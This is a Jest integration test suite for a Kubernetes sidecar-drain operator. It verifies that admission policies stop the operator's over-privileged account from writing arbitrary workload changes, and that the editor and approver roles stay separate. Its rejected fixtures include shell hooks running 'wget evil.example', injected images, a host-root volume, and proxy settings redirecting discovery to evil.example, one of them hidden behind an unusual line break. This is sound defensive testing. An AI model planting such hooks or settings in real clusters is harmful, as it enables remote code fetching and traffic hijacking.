// The API server bounds what the operator's account writes, whatever its roles allow: here it is bound to cluster-admin.
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
import { startControlPlane, type ControlPlane } from '../support/cluster.ts';
import { projectRoot } from '../support/control-plane/index.ts';
import { installCrds } from '../support/crds.ts';
import { installMesh } from '../support/mesh.ts';
import { installPermissions, OPERATOR_ACCOUNT, OPERATOR_NAMESPACE } from '../support/operator.ts';
import { productHook } from '../../src/hooks/product-hook.ts';

jest.setTimeout(180_000);

const CONFIG = 'proxy.istio.io/config';
const STATE = 'sidecardrain.io/state';
const MANAGED = { 'app.kubernetes.io/managed-by': 'sidecar-drain-operator' };

let plane: ControlPlane;
let token: string;
let shop: string;
let count = 0;

type Json = Record<string, unknown>;

interface Answer {
  readonly status: number;
  readonly message: string;
}

async function send(method: string, path: string, body?: unknown, contentType?: string): Promise<Answer> {
  const answer = await plane.client.raw<{ message?: string }>(method, path, {
    token,
    ...(body === undefined ? {} : { body }),
    ...(contentType === undefined ? {} : { contentType }),
  });
  return { status: answer.status, message: answer.body.message ?? '' };
}

async function merge(path: string, body: unknown): Promise<Answer> {
  return await send('PATCH', path, body, 'application/merge-patch+json');
}

const user = { name: 'app', image: 'registry.example/web:1', env: [{ name: 'MODE', value: 'plain' }] };
const hook = productHook({ duration: 30, maxWait: 95, waitFor: 'EstablishedConnections' });
const ownProxy = { name: 'istio-proxy', image: 'auto', imagePullPolicy: 'IfNotPresent', lifecycle: { preStop: hook } };

function note(fields: Json): string {
  return JSON.stringify({
    v: 1,
    policy: { name: 'floor', uid: 'b7a1' },
    intent: 'k',
    onDelete: 'Restore',
    at: '2026-03-01T08:00:00.000Z',
    fields,
  });
}

const grace = (before: number, wrote: number): Json => ({ gracePeriod: { before, wrote } });
const hooked = (before: unknown): Json => ({ proxyContainer: { before, wrote: '9-0011223344556677' } });

interface Shape {
  readonly note?: string;
  readonly annotations?: Readonly<Record<string, string>>;
  readonly grace?: number;
  readonly containers?: readonly Json[];
  readonly labels?: Readonly<Record<string, string>>;
  readonly pod?: Json;
  readonly spec?: Json;
  readonly top?: Json;
}

function templateOf(shape: Shape): Json {
  return {
    metadata: { labels: { app: 'web', ...shape.labels }, annotations: { team: 'blue', ...shape.annotations } },
    spec: {
      restartPolicy: 'Always',
      terminationGracePeriodSeconds: shape.grace ?? 60,
      containers: shape.containers ?? [user],
      ...shape.pod,
    },
  };
}

const KINDS: Readonly<Record<string, { api: string; plural: string; spec: (template: Json) => Json }>> = {
  Deployment: {
    api: 'apps/v1',
    plural: 'deployments',
    spec: (template) => ({ replicas: 0, selector: { matchLabels: { app: 'web' } }, template }),
  },
  StatefulSet: {
    api: 'apps/v1',
    plural: 'statefulsets',
    spec: (template) => ({ replicas: 0, serviceName: 'web', selector: { matchLabels: { app: 'web' } }, template }),
  },
  DaemonSet: {
    api: 'apps/v1',
    plural: 'daemonsets',
    spec: (template) => ({ selector: { matchLabels: { app: 'web' } }, template }),
  },
  CronJob: {
    api: 'batch/v1',
    plural: 'cronjobs',
    spec: (template) => ({
      schedule: '0 3 1 1 *',
      suspend: true,
      jobTemplate: {
        spec: { template: { ...template, spec: { ...(template['spec'] as Json), restartPolicy: 'Never' } } },
      },
    }),
  },
};

function objectOf(kind: string, namespace: string, name: string, shape: Shape): Json {
  const { api, spec } = KINDS[kind]!;
  return {
    apiVersion: api,
    kind,
    metadata: { name, namespace, annotations: shape.note === undefined ? {} : { [STATE]: shape.note }, ...shape.top },
    spec: { ...spec(templateOf(shape)), ...shape.spec },
  };
}

/** Writes `after` over `before` as the operator's account: a whole PUT, so that nothing is merged but what controllers note there. */
async function change(kind: string, before: Shape, after: Shape, namespace = shop): Promise<Answer> {
  count += 1;
  const name = `w-${count}`;
  const { api, plural } = KINDS[kind]!;
  const path = `/apis/${api}/namespaces/${namespace}/${plural}`;
  await plane.client.call('POST', path, { body: objectOf(kind, namespace, name, before) });
  for (;;) {
    const live = await plane.client.call('GET', `${path}/${name}`);
    const kept = { ...live.metadata.annotations };
    Reflect.deleteProperty(kept, STATE);
    const body = objectOf(kind, namespace, name, after);
    const metadata = body['metadata'] as { annotations: Json };
    Object.assign(metadata, {
      annotations: { ...kept, ...metadata.annotations },
      resourceVersion: live.metadata.resourceVersion,
    });
    const answer = await send('PUT', `${path}/${name}?dryRun=All`, body);
    if (answer.status !== 409) {
      return answer;
    }
  }
}

beforeAll(async () => {
  plane = await startControlPlane({ audit: false });
  await installCrds(plane);
  await installPermissions(plane);
  await installMesh(plane, { nativeSidecars: 'false' });
  await plane.create({
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind: 'ClusterRoleBinding',
    metadata: { name: 'too-much' },
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
    subjects: [{ kind: 'ServiceAccount', ...OPERATOR_ACCOUNT }],
  });
  shop = await plane.namespace('shop');
  token = await plane.tokenFor(OPERATOR_ACCOUNT);
  const until = Date.now() + 60_000;
  const probe = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'probe' } };
  while ((await send('POST', `/api/v1/namespaces/${shop}/configmaps?dryRun=All`, probe)).status !== 422) {
    if (Date.now() > until) {
      throw new Error('the bounds are not in force after 60 s');
    }
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  // Each policy comes into force by itself.
  while ((await change('Deployment', {}, { note: note({}), spec: { replicas: 1 } })).status !== 422) {
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
});
afterAll(async () => {
  await plane?.stop();
});

const drain = { [CONFIG]: 'terminationDrainDuration: 45s\n' };

describe.each(Object.keys(KINDS))('of a %s the operator', (kind) => {
  it('may write its values with a note, and give them back', async () => {
    const written: Shape = { note: note(grace(60, 90)), annotations: drain, grace: 90 };

    expect(await change(kind, {}, written)).toMatchObject({ status: 200 });
    expect(await change(kind, written, {})).toMatchObject({ status: 200 });
  });

  it.each<[string, Shape]>([
    ['another image', { containers: [{ ...user, image: 'registry.example/evil:1' }] }],
    ['another container', { containers: [user, { name: 'more', image: 'registry.example/evil:1' }] }],
    ['an init container', { pod: { initContainers: [{ name: 'more', image: 'registry.example/evil:1' }] } }],
    ['another service account', { pod: { serviceAccountName: 'admin' } }],
    ['a volume', { pod: { volumes: [{ name: 'all', hostPath: { path: '/' } }] } }],
    ['a shorter grace period', { grace: 59, note: note(grace(30, 59)) }],
    ['a label of the template', { labels: { more: 'x' } }],
    ['an annotation of the template', { annotations: { more: 'x' } }],
    ['a label of its own', { top: { labels: { more: 'x' } } }],
  ])('may not write %s', async (_, after) => {
    const answer = await change(kind, {}, { note: note({}), ...after });

    expect(answer.status).toBe(422);
    expect(answer.message).toContain('sidecar-drain-operator');
  });
});

const TEAM_HOOK = { exec: { command: ['/bin/sh', '-c', 'echo "a\tb" \\\nsleep 7'] } };
const withHook = (preStop: unknown): Json => ({
  name: 'istio-proxy',
  image: 'auto',
  imagePullPolicy: 'IfNotPresent',
  resources: { limits: { cpu: '1' } },
  lifecycle: { preStop },
});
const evil = { exec: { command: ['/bin/sh', '-c', 'wget evil.example'] } };
const flow = (more: string): Shape => ({ annotations: { [CONFIG]: `{"concurrency":2${more}}` }, note: note({}) });

describe('the operator may', () => {
  it.each<[string, Shape, Shape]>([
    ['add its container', {}, { note: note(hooked(null)), containers: [user, ownProxy] }],
    ['take its container away', { note: note(hooked(null)), containers: [user, ownProxy] }, {}],
    [
      "put its hook in place of a team's, and say so",
      { containers: [user, withHook(TEAM_HOOK)] },
      { note: note(hooked({ lifecycle: true, preStop: TEAM_HOOK })), containers: [user, withHook(hook)] },
    ],
    [
      "give a team's hook back",
      { note: note(hooked({ lifecycle: true, preStop: TEAM_HOOK })), containers: [user, withHook(hook)] },
      { containers: [user, withHook(TEAM_HOOK)] },
    ],
    ['lower its own grace period to what was there', { note: note(grace(20, 60)) }, { grace: 20 }],
    ['lower it between', { note: note(grace(20, 60)) }, { note: note(grace(20, 40)), grace: 40 }],
    ['add to a text in JSON', flow(''), flow(',"drainDuration":"45s"')],
    ['take from a text in JSON', flow(',"drainDuration":"45s"'), flow('')],
    [
      'add variables beside others',
      { annotations: { [CONFIG]: 'tracing: {}\nproxyMetadata:\n  A: b # keep\n' }, note: note({}) },
      {
        annotations: {
          [CONFIG]: "tracing: {}\nproxyMetadata:\n  A: b # keep\n  EXIT_ON_ZERO_ACTIVE_CONNECTIONS: 'true'\n",
        },
        note: note({}),
      },
    ],
  ])('%s', async (_, before, after) => {
    expect(await change('Deployment', before, after)).toEqual({ status: 200, message: '' });
  });
});

describe('the operator may not', () => {
  it.each<[string, Shape, Shape, string]>([
    ['change without a note', {}, { annotations: drain }, 'its note says'],
    ['change replicas', {}, { note: note({}), spec: { replicas: 1 } }, 'outside of the pod template'],
    ['set another image in its container', {}, own({ image: 'registry.example/evil:1' }), 'no image but auto'],
    ['set an environment there', {}, own({ env: [{ name: 'A', value: 'b' }] }), 'nothing in a container istio-proxy'],
    ['set another hook there', {}, own({ lifecycle: { preStop: evil } }), 'no preStop hook but'],
    [
      'put more behind its hook',
      {},
      own({ lifecycle: { preStop: { exec: { command: ['/bin/sh', '-c', `${scriptOf()}\nwget evil.example`] } } } }),
      'no preStop hook but',
    ],
    ['set a postStart', {}, own({ lifecycle: { preStop: hook, postStart: evil } }), 'nothing in a container'],
    [
      'say of a hook what was not there',
      { note: note(hooked(null)), containers: [user, ownProxy] },
      { note: note(hooked({ lifecycle: true, preStop: evil })), containers: [user, ownProxy] },
      'must say of the preStop',
    ],
    [
      'say of a grace period what was not there',
      { note: note(grace(50, 60)) },
      { note: note(grace(1, 60)) },
      'must say of the grace period',
    ],
    [
      "take a team's longer grace period for its own",
      { note: note(grace(20, 40)) },
      { note: note(grace(20, 60)) },
      'must say of the grace period',
    ],
    ['lower what a team has set since', { note: note(grace(20, 40)) }, { grace: 20 }, 'no grace period below'],
    ['go below what was there', { note: note(grace(20, 60)) }, { grace: 19 }, 'no grace period below'],
    [
      'name a field twice',
      {},
      { note: note({}).replace('"fields":{}', '"fields":{"gracePeriod":1,"gracePeriod":2}') },
      'each field once',
    ],
    [
      'send proxies elsewhere',
      {},
      { note: note({}), annotations: { [CONFIG]: 'discoveryAddress: evil.example:15012' } },
      'no setting of proxy.istio.io/config',
    ],
    ['send them elsewhere in JSON', flow(''), flow(',"discoveryAddress":"evil"'), 'no setting of proxy.istio.io'],
    [
      'hide a line behind another line break',
      {},
      { note: note({}), annotations: { [CONFIG]: 'drainDuration: 5s # x\u0085discoveryAddress: evil' } },
      'no setting of proxy.istio.io/config',
    ],
    [
      "take a team's setting away",
      { annotations: { [CONFIG]: 'concurrency: 2\n' } },
      { note: note({}), annotations: drain },
      'no setting of proxy.istio.io/config',
    ],
  ])('%s', async (_, before, after, message) => {
    const answer = await change('Deployment', before, after);

    expect(answer.status).toBe(422);
    expect(answer.message).toContain(message);
  });

  it.each(['kube-system', 'istio-system', OPERATOR_NAMESPACE])('write a workload in %s', async (namespace) => {
    const answer = await change('Deployment', {}, { note: note(grace(60, 90)), grace: 90 }, namespace);

    expect(answer.status).toBe(422);
    expect(answer.message).toContain('of a system namespace');
  });
});

function own(more: Json): Shape {
  return { note: note(hooked(null)), containers: [user, { ...ownProxy, ...more }] };
}

function scriptOf(): string {
  return hook.exec?.command?.[2] ?? '';
}

const core = (plural: string, namespace: string): string => `/api/v1/namespaces/${namespace}/${plural}`;
const map = (name: string, labels: Json = MANAGED): Json => ({
  apiVersion: 'v1',
  kind: 'ConfigMap',
  metadata: { name, labels },
});

describe('besides workloads the operator', () => {
  it.each<[string, () => Promise<Answer>, number, string]>([
    ['keeps an approval', () => dry('POST', core('configmaps', OPERATOR_NAMESPACE), map('approved-plan-1')), 201, ''],
    [
      'does not touch its off switch',
      () => dry('POST', core('configmaps', OPERATOR_NAMESPACE), map('sidecar-drain-operator')),
      422,
      'off switch',
    ],
    [
      'writes no ConfigMap without its label',
      () => dry('POST', core('configmaps', OPERATOR_NAMESPACE), map('approved-plan-2', {})),
      422,
      'no ConfigMap',
    ],
    ["writes none of Istio's", () => dry('DELETE', `${core('configmaps', 'istio-system')}/istio`), 422, 'no ConfigMap'],
    [
      'makes no pod',
      () =>
        dry('POST', core('pods', shop), {
          apiVersion: 'v1',
          kind: 'Pod',
          metadata: { name: 'p' },
          spec: { containers: [user] },
        }),
      422,
      'never writes this: CREATE of pods',
    ],
    [
      'makes no Secret',
      () => dry('POST', core('secrets', shop), { apiVersion: 'v1', kind: 'Secret', metadata: { name: 's' } }),
      422,
      'CREATE of secrets',
    ],
    [
      'makes no token',
      () =>
        dry('POST', `${core('serviceaccounts', shop)}/default/token`, {
          apiVersion: 'authentication.k8s.io/v1',
          kind: 'TokenRequest',
          spec: {},
        }),
      422,
      'serviceaccounts/token',
    ],
    [
      'binds no role',
      () =>
        dry('POST', '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings', {
          apiVersion: 'rbac.authorization.k8s.io/v1',
          kind: 'ClusterRoleBinding',
          metadata: { name: 'more' },
          roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'view' },
        }),
      422,
      'CREATE of clusterrolebindings',
    ],
    [
      'creates no workload',
      () => dry('POST', `/apis/apps/v1/namespaces/${shop}/deployments`, objectOf('Deployment', shop, 'made', {})),
      422,
      'CREATE of deployments',
    ],
    [
      'labels no namespace',
      () => merge(`/api/v1/namespaces/${shop}?dryRun=All`, { metadata: { labels: { a: 'b' } } }),
      422,
      'sidecar-drain-operator',
    ],
    [
      'takes no lease but its own',
      () =>
        dry('POST', '/apis/coordination.k8s.io/v1/namespaces/kube-system/leases', {
          apiVersion: 'coordination.k8s.io/v1',
          kind: 'Lease',
          metadata: { name: 'sidecar-drain-operator' },
        }),
      422,
      'no lease but its own',
    ],
  ])('%s', async (_, run, status, message) => {
    const answer = await run();

    expect(answer.status).toBe(status);
    expect(answer.message).toContain(message);
  });

  it('changes its finalizer of a policy, and neither its spec nor an approval', async () => {
    const path = '/apis/sidecardrain.io/v1alpha1/sidecardrainpolicies/bounded?dryRun=All';
    await plane.create({
      apiVersion: 'sidecardrain.io/v1alpha1',
      kind: 'SidecarDrainPolicy',
      metadata: { name: 'bounded' },
      spec: { drain: { mode: 'Fixed', duration: '30s' }, match: { namespaceSelector: {} } },
    });

    expect([
      (await merge(path, { metadata: { finalizers: ['sidecardrain.io/restore'] } })).status,
      (await merge(path, { metadata: { finalizers: ['example.com/other'] } })).status,
      (await merge(path, { spec: { enforcement: 'Enforce' } })).status,
      (await merge(path, { metadata: { annotations: { 'sidecardrain.io/approved-withdrawal': 'x' } } })).status,
    ]).toEqual([200, 422, 422, 422]);
  });
});

async function dry(method: string, path: string, body?: unknown): Promise<Answer> {
  return await send(method, `${path}?dryRun=All`, body);
}

describe('approving as a permission of its own (config/separate-approval)', () => {
  const path = '/apis/sidecardrain.io/v1alpha1/sidecardrainpolicies/guarded';
  const approval = { metadata: { annotations: { 'sidecardrain.io/approved-withdrawal': '0123456789abcdef' } } };
  const edit = { spec: { drain: { mode: 'Fixed', duration: '45s' } } };
  const tokens = new Map<string, string>();

  async function as(name: string, body: object): Promise<Answer> {
    const { status, body: answer } = await plane.client.raw<{ message?: string }>('PATCH', path, {
      token: tokens.get(name) ?? '',
      contentType: 'application/merge-patch+json',
      body,
    });
    return { status, message: answer.message ?? '' };
  }

  beforeAll(async () => {
    await plane.kubectlOk(['apply', '-k', join(projectRoot(), 'config/separate-approval')]);
    for (const [name, role] of [
      ['editor', 'sidecar-drain-policy-editor'],
      ['approver', 'sidecar-drain-approver'],
    ] as const) {
      await plane.kubectlOk(['create', 'serviceaccount', name, '-n', 'default']);
      await plane.kubectlOk([
        'create',
        'clusterrolebinding',
        name,
        `--clusterrole=${role}`,
        `--serviceaccount=default:${name}`,
      ]);
      tokens.set(name, await plane.tokenFor({ namespace: 'default', name }));
      await plane.waitUntilAllowed(
        { namespace: 'default', name },
        { verb: 'patch', group: 'sidecardrain.io', resource: 'sidecardrainpolicies' },
      );
    }
    await plane.create({
      apiVersion: 'sidecardrain.io/v1alpha1',
      kind: 'SidecarDrainPolicy',
      metadata: { name: 'guarded' },
      spec: { match: { namespaceSelector: {} }, drain: { mode: 'Fixed', duration: '30s' } },
    });
    // The API server reads a new policy of admission a moment after it was written, and so it does a new binding of a role.
    const refused = async (): Promise<boolean> => {
      const { status, message } = await as('editor', approval);
      return status === 403 && message.includes('/approval');
    };
    while (!(await refused())) {
      await plane.client.call('PATCH', path, {
        contentType: 'application/merge-patch+json',
        body: { metadata: { annotations: null } },
      });
    }
  });

  it('whoever edits the policy cannot approve, and may take an approval away', async () => {
    expect(await as('editor', approval)).toMatchObject({ status: 403, message: expect.stringContaining('/approval') });
    expect(await as('editor', edit)).toMatchObject({ status: 200 });
    expect(await as('approver', approval)).toMatchObject({ status: 200 });
    expect(await as('editor', { spec: { drain: { duration: '50s' } } })).toMatchObject({ status: 200 });
    expect(await as('editor', { metadata: { annotations: null } })).toMatchObject({ status: 200 });
  });

  it('whoever approves cannot edit the policy, not even in the same request', async () => {
    expect(await as('approver', edit)).toMatchObject({ status: 403, message: expect.stringContaining('/spec') });
    expect(await as('approver', { ...approval, ...edit })).toMatchObject({ status: 403 });
    expect(await as('approver', approval)).toMatchObject({ status: 200 });
  });

  it('an administrator has both', async () => {
    const both = { ...approval, spec: { drain: { duration: '55s' } } };
    const answer = await plane.client.raw('PATCH', path, { contentType: 'application/merge-patch+json', body: both });
    expect(answer.status).toBe(200);
  });
});
